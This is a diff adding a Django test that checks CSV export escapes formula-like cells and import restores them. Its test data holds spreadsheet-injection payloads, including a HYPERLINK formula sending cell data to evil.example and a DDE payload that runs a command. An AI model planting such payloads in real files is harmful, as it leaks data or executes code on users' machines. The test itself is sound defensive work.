@@ -170,3 +170,27 @@ def test_export_follows_the_filters(owner_client, owner):
     data = b"".join(owner_client.get(reverse("clients:client_export") + "?blacklisted=yes").streaming_content)
     lines = data.decode("utf-8-sig").splitlines()
     assert len(lines) == 2 and lines[1].startswith("Alice,")
+
+
+def test_cells_guarded_against_formulas_import_back_as_the_original_text(owner_client, owner, client, other_user):
+    """The export puts an apostrophe before a formula-like cell (issue #17); the import takes it off, only it."""
+    hostile = {
+        "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "company": "+cmd|' /C calc'!A0",
+        "phone": "@SUM(1)",
+        "notes": "-2+3\n=1+1",
+    }
+    ClientFactory(owner=owner, email="", **hostile)
+    ClientFactory(owner=owner, name="'=already quoted", company="'an apostrophe", phone="+33 6 12 34 56 78", email="")
+    data = b"".join(owner_client.get(reverse("clients:client_export")).streaming_content).decode("utf-8-sig")
+    assert "'=HYPERLINK(" in data and "'+cmd|" in data and "'@SUM(1)" in data and "'+33 6" in data
+
+    client.force_login(other_user)
+    upload(client, data)
+    client.post(reverse("clients:client_import_confirm"))
+
+    def snapshot(user):
+        return sorted(Client.objects.filter(owner=user).values_list("name", "company", "phone", "notes"))
+
+    assert snapshot(other_user) == snapshot(owner)
+    assert (hostile["name"], hostile["company"], hostile["phone"], hostile["notes"]) in snapshot(other_user)
